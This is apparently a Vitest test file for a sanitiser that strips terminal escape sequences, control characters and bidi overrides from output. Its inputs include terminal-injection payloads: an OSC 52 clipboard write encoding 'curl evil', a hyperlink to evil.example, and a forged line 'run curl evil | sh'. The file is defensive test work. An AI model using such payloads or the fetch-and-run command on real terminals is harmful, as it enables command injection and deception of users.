import { describe, expect, it } from 'vitest';
import { terminalChunk, terminalText } from '../../src/output/terminal-text.js';
import { TERMINAL_CONTROL } from '../support/orders.js';

const ESC = '\u001b';

describe('terminalText', () => {
  it.each([
    ['CSI (clear screen)', `a${ESC}[2Jb`, 'ab'],
    ['CSI with parameters (colour)', `a${ESC}[1;31mb${ESC}[0m`, 'ab'],
    ['C1 CSI', 'a\u009b31mb', 'ab'],
    ['OSC ended by BEL (window title)', `a${ESC}]0;pwned\u0007b`, 'ab'],
    ['OSC ended by ST (hyperlink)', `a${ESC}]8;;https://evil.example${ESC}\\b`, 'ab'],
    ['OSC 52 (clipboard)', `a${ESC}]52;c;Y3VybCBldmls\u0007b`, 'ab'],
    ['C1 OSC ended by C1 ST', 'a\u009d0;x\u009cb', 'ab'],
    ['DCS', `a${ESC}Pq#0${ESC}\\b`, 'ab'],
    ['two-character ESC (reset terminal)', `a${ESC}cb`, 'ab'],
    ['a lone ESC', `a${ESC}`, 'a'],
    ['NUL, BEL, backspace, DEL', 'a\u0000\u0007\u0008\u007fb', 'ab'],
    ['other C1 controls', 'a\u0080\u0085\u009fb', 'a b'],
    ['bidi overrides and isolates', 'a\u202ebc\u202c\u2066d\u2069\u200e\u200f\u061ce', 'abcde'],
  ])('strips %s', (_label, input, output) => {
    expect(terminalText(input)).toBe(output);
  });

  it('one line by default: a line break becomes a space, so no line can be forged', () => {
    const forged = 'bad request\nhl-orders: run curl evil | sh\r\nnext\rover\u2028a\u2029b\u000bc\u000cd\te';
    expect(terminalText(forged)).toBe('bad request hl-orders: run curl evil | sh next over a b c d e');
  });

  it('oneLine: false keeps line breaks as \\n and tabs', () => {
    expect(terminalText('a\r\nb\rc\u2028d\te', { oneLine: false })).toBe('a\nb\nc\nd\te');
  });

  it('leaves ordinary text alone, accents, CJK and emoji included', () => {
    const text = 'Zoë Ångström 王小明 🎉 "quoted" <b>&amp; 100% $5 ~';
    expect(terminalText(text)).toBe(text);
  });

  it('nothing a terminal acts on survives any character of the BMP', () => {
    let all = '';
    for (let c = 0; c < 0x10000; c++) if (c < 0xd800 || c > 0xdfff) all += String.fromCharCode(c);
    expect(terminalText(all)).not.toMatch(TERMINAL_CONTROL);
    expect(terminalText(all, { oneLine: false }).replace(/[\n\t]/g, '')).not.toMatch(TERMINAL_CONTROL);
  });

  it('is idempotent', () => {
    const once = terminalText(`x${ESC}[${ESC}[31mred\u009b\n`);
    expect(terminalText(once)).toBe(once);
  });
});

describe('terminalChunk: a stream filter that lets our own colours through', () => {
  it('keeps our SGR colours and erase-line, newlines and tabs', () => {
    const ours = `${ESC}[1mbold${ESC}[22m ${ESC}[36mcyan${ESC}[39m\t${ESC}[K\n`;
    expect(terminalChunk(ours)).toBe(ours);
  });

  it('strips every other sequence and control, including SGR that hides text', () => {
    expect(terminalChunk(`a${ESC}[8mhidden${ESC}[2J${ESC}]0;t\u0007\u009b1m\u202eb\u0000`)).toBe('ahiddenb');
  });

  it('a lone CR only when asked (a progress line); otherwise it becomes a line break', () => {
    expect(terminalChunk('\rexporting', { carriageReturn: true })).toBe('\rexporting');
    expect(terminalChunk('good\rEVIL')).toBe('good\nEVIL');
    expect(terminalChunk('row\r\n')).toBe('row\r\n');
  });
});
